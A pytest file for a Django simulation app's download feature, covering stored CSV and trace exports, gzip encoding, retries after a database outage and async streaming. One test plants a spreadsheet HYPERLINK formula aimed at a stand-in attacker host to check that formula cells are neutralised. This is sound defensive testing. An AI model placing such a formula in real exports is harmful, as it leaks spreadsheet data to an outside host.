"""Downloads are computed once, by the worker, and streamed from storage: no request runs the engine. The stored
CSV equals the engine's to_csv byte for byte, comes gzip-encoded to clients that take it, and neutralises
spreadsheet formulas in text cells; a run without stored downloads says how to have them prepared."""
import csv
import gzip
import io
import json
import re

import pytest
from asgiref.sync import sync_to_async
from django.urls import reverse

from hwsim import exports, services
from hwsim.engine import TABLES, chrome_trace, to_csv
from hwsim.models import RunExport, RunExportPart, SimulationRun

from .inline_jobs import inline_jobs  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
PARAMS = {"experts": {"source": "uniform", "count": 40, "params": 7e9}, "workload": {"requests": 3000, "rate": 2.0},
          "seed": 11}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def finished_run(capture, params=PARAMS):
    with capture(execute=True):
        run = services.create_run(raw=params)
    run.refresh_from_db()
    assert (run.status, run.exports_status) == ("done", "ready")
    return run


def no_engine_in_requests(monkeypatch):
    """From here on, any simulation or export generation fails loudly."""
    def refuse(*args, **kwargs):
        raise AssertionError("a download ran the engine inside the request")

    for target, name in [(services, "simulate"), (services, "rerun"), (exports, "chrome_trace"),
                         (exports, "iter_csv")]:
        monkeypatch.setattr(target, name, refuse)


@pytest.fixture
def small_parts(monkeypatch):
    """Parts and inflated pieces of 16 KiB, so a small run is stored and served in many of them."""
    monkeypatch.setattr(exports, "PART_BYTES", 1 << 14)
    monkeypatch.setattr(exports, "OUT_BYTES", 1 << 14)


@pytest.fixture
def reader(client, user):
    client.force_login(user)  # any signed-in user may download
    return client


def body(response):
    return b"".join(response.streaming_content)


def test_downloads_are_the_stored_bytes_equal_to_the_engine_and_never_recomputed(
        inline_jobs, small_parts, reader, monkeypatch, django_capture_on_commit_callbacks):
    run = finished_run(django_capture_on_commit_callbacks)
    result = services.rerun(run)  # what the old download computed per GET
    expected = {t: to_csv(result, t).encode() for t in TABLES}
    trace = chrome_trace(result)
    assert len(expected["requests"]) > 10 * exports.PART_BYTES  # many parts, even gzipped
    no_engine_in_requests(monkeypatch)

    for table in TABLES:
        url = reverse("hwsim:run-csv", args=[run.pk, table])
        plain = reader.get(url, HTTP_ACCEPT_ENCODING="identity")
        assert plain.status_code == 200 and plain.streaming and plain["Content-Type"] == "text/csv; charset=utf-8"
        assert "Content-Encoding" not in plain and "Accept-Encoding" in plain["Vary"]
        assert body(plain) == expected[table] and int(plain["Content-Length"]) == len(expected[table])
        zipped = reader.get(url, HTTP_ACCEPT_ENCODING="gzip, deflate, br")
        assert zipped["Content-Encoding"] == "gzip"
        raw = body(zipped)
        assert int(zipped["Content-Length"]) == len(raw) < len(expected[table])
        assert gzip.decompress(raw) == expected[table]
        assert zipped["Content-Disposition"] == f'attachment; filename="hwsim-run-{run.pk}-{table}.csv"'

    stored = RunExport.objects.get(run=run, name="requests.csv")
    assert stored.parts == RunExportPart.objects.filter(export=stored).count() > 5
    assert stored.size == len(expected["requests"])
    got = json.loads(body(reader.get(reverse("hwsim:run-trace", args=[run.pk]))))
    wall = ("wall_seconds", "requests_per_wall_second")  # the engine's own timing differs between two runs
    assert {k: v for k, v in got["otherData"].items() if k not in wall} == \
        {k: v for k, v in trace["otherData"].items() if k not in wall}
    assert got["traceEvents"] == trace["traceEvents"] and got["displayTimeUnit"] == trace["displayTimeUnit"]
    assert reader.get(reverse("hwsim:run-csv", args=[run.pk, "secrets"])).status_code == 404


def test_formula_cells_are_neutralised(inline_jobs, reader, django_capture_on_commit_callbacks):
    """An expert row whose name a spreadsheet would run (stored before names were validated) is text in the CSV."""
    from experts.models import Expert
    from experts.selectors import current_map
    from experts.services import publish_map

    Expert.objects.create(name=FORMULA, model_id="legacy/model", parameters=7_000_000_000)
    snap = current_map()
    version = publish_map(base_version=snap.version, assignments={**snap.assignments, "coding": FORMULA}, note="legacy expert")
    run = finished_run(django_capture_on_commit_callbacks, {
        "experts": {"source": "map", "map_version": version.number}, "workload": {"requests": 400}, "seed": 3})

    def rows(table):
        text = body(reader.get(reverse("hwsim:run-csv", args=[run.pk, table]), HTTP_ACCEPT_ENCODING="identity"))
        return list(csv.DictReader(io.StringIO(text.decode())))

    experts = {row["expert"] for row in rows("experts")}
    assert "'" + FORMULA in experts and FORMULA not in experts
    served = [row["expert"] for row in rows("requests")]
    load = {e["expert"]: e["requests"] for e in run.outputs["per_expert"]}
    assert served.count("'" + FORMULA) == load[FORMULA] > 0
    assert not any(e.startswith(("=", "+", "-", "@")) for e in served)


def test_an_outage_while_writing_downloads_retries_and_replaces_the_partial_ones(
        inline_jobs, small_parts, reader, monkeypatch, django_capture_on_commit_callbacks):
    from django.db import OperationalError

    from hwsim.tasks import run_simulation

    with django_capture_on_commit_callbacks(execute=False):
        run = services.create_run(raw=PARAMS)
    text, attempts = exports._text, []

    def failing_once(result, name):
        attempts.append(name)
        yield from text(result, name)
        if len(attempts) == 2:  # the first table is stored, the second written in full: then the database goes
            assert RunExportPart.objects.filter(export__run=run).count() > 2
            raise OperationalError("terminating connection due to administrator command")

    monkeypatch.setattr(exports, "_text", failing_once)
    run_simulation.apply(args=[run.pk], throw=False)  # eager Celery runs the retry at once
    run.refresh_from_db()
    assert (run.status, run.exports_status) == ("done", "ready") and attempts[2] == exports.NAMES[0]
    assert sorted(RunExport.objects.filter(run=run).values_list("name", flat=True)) == sorted(exports.NAMES)
    served = body(reader.get(reverse("hwsim:run-csv", args=[run.pk, "switches"]), HTTP_ACCEPT_ENCODING=""))
    assert served == to_csv(services.rerun(run), "switches").encode()


def test_a_run_without_stored_downloads_says_how_and_prepares_them_once(
        inline_jobs, reader, monkeypatch, django_capture_on_commit_callbacks):
    run = finished_run(django_capture_on_commit_callbacks)
    expected = body(reader.get(reverse("hwsim:run-csv", args=[run.pk, "switches"]), HTTP_ACCEPT_ENCODING=""))
    RunExport.objects.filter(run=run).delete()  # as a run from before downloads were stored
    SimulationRun.objects.filter(pk=run.pk).update(exports_status="", exports_token="")
    with monkeypatch.context() as patched:
        no_engine_in_requests(patched)
        refused = reader.get(reverse("hwsim:run-csv", args=[run.pk, "switches"]))
        page = reader.get(reverse("hwsim:run", args=[run.pk])).content.decode()
    prepare = reverse("hwsim:run-prepare-downloads", args=[run.pk])
    assert refused.status_code == 409 and refused.json()["error"]["prepare_url"] == prepare
    assert "Prepare downloads" in refused.json()["error"]["message"]
    form = re.search(r'<form[^>]*id="prepare-downloads"[^>]*>', page).group(0)
    assert f'action="{prepare}"' in form and "hidden" not in form  # the page offers the button
    assert reader.get(prepare).status_code == 405

    SimulationRun.objects.filter(pk=run.pk).update(exports_status="pending")  # a worker is on it
    pending = reader.get(reverse("hwsim:run-trace", args=[run.pk]))
    assert pending.status_code == 409 and pending["Retry-After"] == "5"
    SimulationRun.objects.filter(pk=run.pk).update(exports_status="")

    with django_capture_on_commit_callbacks(execute=True):  # the export job runs in the (inline) worker
        assert reader.post(prepare).status_code == 302
    run.refresh_from_db()
    assert run.exports_status == "ready" and run.exports_token
    served = reader.get(reverse("hwsim:run-csv", args=[run.pk, "switches"]), HTTP_ACCEPT_ENCODING="")
    assert body(served) == expected
    with django_capture_on_commit_callbacks(execute=True) as asked_again:
        reader.post(prepare)
    assert not asked_again and RunExport.objects.filter(run=run).count() == len(exports.NAMES)


def test_a_run_that_cannot_be_reproduced_says_why_its_downloads_failed(
        inline_jobs, reader, make_decisions, django_capture_on_commit_callbacks):
    from routing.models import RoutingDecision

    make_decisions([("coding", 40)] * 5)
    run = finished_run(django_capture_on_commit_callbacks, {"workload": {"kind": "replay", "source": "recent",
                                                                         "count": 5}})
    RunExport.objects.filter(run=run).delete()
    SimulationRun.objects.filter(pk=run.pk).update(exports_status="", exports_token="")
    RoutingDecision.objects.all().delete()  # the replayed traffic is gone
    with django_capture_on_commit_callbacks(execute=True):
        reader.post(reverse("hwsim:run-prepare-downloads", args=[run.pk]))
    run.refresh_from_db()
    assert run.exports_status == "failed" and "no longer exist" in run.exports_error
    refused = reader.get(reverse("hwsim:run-csv", args=[run.pk, "requests"]))
    assert refused.status_code == 409 and "no longer exist" in refused.json()["error"]["message"]
    assert "Writing the downloads failed" in reader.get(reverse("hwsim:run", args=[run.pk])).content.decode()


def test_downloads_wait_for_a_finished_run(reader):
    run = SimulationRun.objects.create(parameters={}, progress_total=10)
    refused = reader.get(reverse("hwsim:run-trace", args=[run.pk]))
    assert refused.status_code == 409 and "queued" in refused.json()["error"]["message"]
    assert reader.get(reverse("hwsim:run-trace", args=[987654])).status_code == 404


@pytest.mark.parametrize("header, gzipped", [("gzip", True), ("GZIP;q=0.5", True), ("br, *", True),
                                             ("gzip;q=0, *", False), ("*;q=0", False), ("identity", False),
                                             ("", False), ("gzip;q=bad", False)])
def test_accept_encoding(rf, header, gzipped):
    from hwsim.views import accepts_gzip

    assert accepts_gzip(rf.get("/", HTTP_ACCEPT_ENCODING=header)) is gzipped


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_download_streams_part_by_part(inline_jobs, small_parts, user):
    """Django reads a synchronous iterator whole before sending it under ASGI: the view gives an async one."""
    from django.test import AsyncClient

    def make():
        run = services.create_run(raw=PARAMS)  # autocommit: the inline job runs at once
        run.refresh_from_db()
        return run, to_csv(services.rerun(run), "requests").encode()

    run, expected = await sync_to_async(make)()
    client = AsyncClient()
    await client.aforce_login(user)
    response = await client.get(reverse("hwsim:run-csv", args=[run.pk, "requests"]),
                                headers={"Accept-Encoding": "identity"})
    assert response.status_code == 200 and response.is_async
    pieces = [piece async for piece in response.streaming_content]
    assert len(pieces) > 10 and max(map(len, pieces)) <= exports.OUT_BYTES
    assert b"".join(pieces) == expected
